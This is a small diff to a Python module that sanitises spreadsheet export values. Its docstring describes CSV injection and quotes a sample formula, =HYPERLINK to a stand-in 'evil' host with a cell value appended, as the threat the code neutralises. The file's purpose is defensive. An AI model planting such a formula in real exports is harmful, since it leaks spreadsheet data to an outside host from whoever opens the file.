@@ -6,6 +6,7 @@ an imported hostname like `=HYPERLINK("http://evil/?"&A1)` would execute on an o
 machine (CSV injection, OWASP). Such text gets a leading `'`, which spreadsheets show as
 text. Plain numbers (a credit of -12.50) are numbers, not formulas, and stay as they are.
 """
+
 import re
 from collections.abc import Iterable
 from decimal import Decimal
